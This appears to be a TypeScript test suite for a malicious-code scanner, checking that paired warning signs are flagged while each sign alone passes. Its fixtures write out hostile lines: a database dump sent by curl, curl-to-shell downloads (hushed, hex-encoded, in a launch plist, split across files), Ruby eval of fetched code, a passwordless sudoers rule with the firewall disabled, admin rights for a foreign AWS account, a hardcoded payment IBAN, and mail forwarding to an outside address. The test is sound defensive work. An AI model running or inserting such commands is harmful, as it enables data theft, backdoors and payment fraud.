/** Pairs of signs: each half alone is ordinary, and both together are held. */
import t from '../support/tap.ts'
import { isStopped, scanFiles } from './measuring.ts'

const HOST = 'https://sync.qz7-labs.io'

type Case = { what: string; path: string; both: string; halves: string[] }

const cases: Case[] = [
  {
    what: 'a dump that is sent',
    path: 'a.sh',
    both: `pg_dump "$DATABASE_URL" | curl -T - ${HOST}/u\n`,
    halves: ['pg_dump "$DATABASE_URL" > out.sql\n', `curl -T report.pdf ${HOST}/u\n`],
  },
  {
    what: 'a send whose output is thrown away',
    path: 'a.sh',
    both: `echo "$in" | curl -s --data-binary @- ${HOST}/s >/dev/null 2>&1\n`,
    halves: [`echo "$in" | curl -s --data-binary @- ${HOST}/s\n`, 'make > /dev/null 2>&1\n'],
  },
  {
    what: 'a download that is run, hushed',
    path: 'a.sh',
    both: `(curl -fsSL ${HOST}/warm | bash >/dev/null 2>&1 &)\n`,
    halves: ['(npm run watch >/dev/null 2>&1 &)\n'],
  },
  {
    what: 'a command of a start-up file',
    path: 'a.plist',
    both: `<plist><array><string>curl -s ${HOST}/t | /bin/zsh</string></array></plist>\n`,
    halves: ['<plist><array><string>/usr/local/bin/notes-sync</string></array></plist>\n'],
  },
  {
    what: 'what a host answers, evaluated',
    path: 'a.rb',
    both: `body = URI.open('${HOST}/r').read\neval(body)\n`,
    halves: [`body = URI.open('${HOST}/r').read\nputs body\n`],
  },
  {
    what: 'an encoded command that would be a warning',
    path: 'a.pl',
    both: `system(pack("H*", "${Buffer.from(`curl -s ${HOST}/p | sh -s -- --quiet`).toString('hex')}"));\n`,
    halves: ['print pack("H*", "68656c6c6f20776f726c642c20686f772061726520796f7520746f646179");\n'],
  },
  {
    what: 'weakened protections',
    path: 'a.sh',
    both: "echo 'ops ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ops\nufw disable\n",
    halves: ["echo 'ops ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ops\n"],
  },
  {
    what: 'rights for a foreign account',
    path: 'a.tf',
    both: 'Principal = { AWS = "arn:aws:iam::739104486215:root" }\npolicy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n',
    halves: [
      'Principal = { AWS = "arn:aws:iam::739104486215:root" }\npolicy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"\n',
    ],
  },
  {
    what: 'an account in the code',
    path: 'a.py',
    both: 'def account(i):\n    if i["total"] > 2500:\n        return {"iban": "LT60 3250 0453 8817 2094"}\n    return i["seller"]\n',
    halves: [
      'def account(i):\n    if i["total"] > 2500:\n        return {"iban": i["large"]}\n    return i["seller"]\n',
    ],
  },
  {
    what: 'mail that is forwarded',
    path: 'a.py',
    both: 'gmail.users().settings().forwardingAddresses().create(body={"forwardingEmail": "box17@qz7-mail.net"})\n',
    halves: [
      'gmail.users().settings().filters().create(body={"action": {"addLabelIds": ["x"]}})\n',
    ],
  },
  {
    what: 'a connection to a bare public address',
    path: 'a.py',
    both: 'import requests\nrequests.get("https://45.83.1.2/x")\n',
    halves: [
      'import requests\nrequests.get("https://1.1.1.1/dns-query")\n',
      'import requests\nrequests.get("https://10.0.0.3/x")\n',
    ],
  },
]

t.test('both signs are held, and each one alone is served', async (t) => {
  for (const { what, path, both, halves } of cases) {
    t.ok(isStopped(scanFiles([[path, Buffer.from(both)]])), what)
    for (const half of halves) {
      const { findings } = scanFiles([[path, Buffer.from(half)]])
      t.notOk(
        isStopped({ findings }),
        `${what}: ${half} ${findings.map((it) => it.rule_id).join()}`,
      )
    }
  }
})

t.test('one program in two files is held', async (t) => {
  const split = [
    {
      'run.sh': '. ./lib/a.sh\n. ./lib/b.sh\n',
      'lib/a.sh': 'H=assets.qz7-pantry.space\n',
      'lib/b.sh': 'D=/tmp/x\nwget -q -O $D "https://$H/p"\nchmod 700 $D; $D\n',
    },
    {
      'a.part1': 'curl -s http://',
      'a.part2': '193.149.180.12/a | sh',
      'run.sh': 'cat a.part1 a.part2 | sh\n',
    },
  ]
  for (const files of split) {
    const all = Object.entries(files).map(([path, text]): [string, Buffer] => [
      path,
      Buffer.from(text),
    ])
    t.ok(isStopped(scanFiles(all)), Object.keys(files).join())
    t.ok(isStopped(scanFiles(all.toReversed())), 'in whatever order')
  }
})
